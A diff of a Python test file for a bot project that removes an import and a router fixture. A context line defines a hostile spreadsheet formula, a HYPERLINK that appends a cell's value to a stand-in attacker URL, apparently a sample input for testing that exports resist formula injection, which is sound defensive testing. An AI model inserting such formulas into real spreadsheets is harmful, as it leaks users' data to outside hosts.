@@ -10,7 +10,6 @@ import openpyxl
 import pytest
 
 from bot.router import Router
-from handlers import build_registry
 from storage.models import OrganisationStatus
 from tests.alliance import member_organisation, message, person
 
@@ -20,11 +19,6 @@ HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'
 @pytest.fixture
 def settings(settings, tmp_path):
     return settings.model_copy(update={"files": settings.files.model_copy(update={"path": tmp_path / "files"})})
-
-
-@pytest.fixture
-def router(db, settings) -> Router:
-    return Router(db, build_registry(), settings)
 
 
 @pytest.fixture
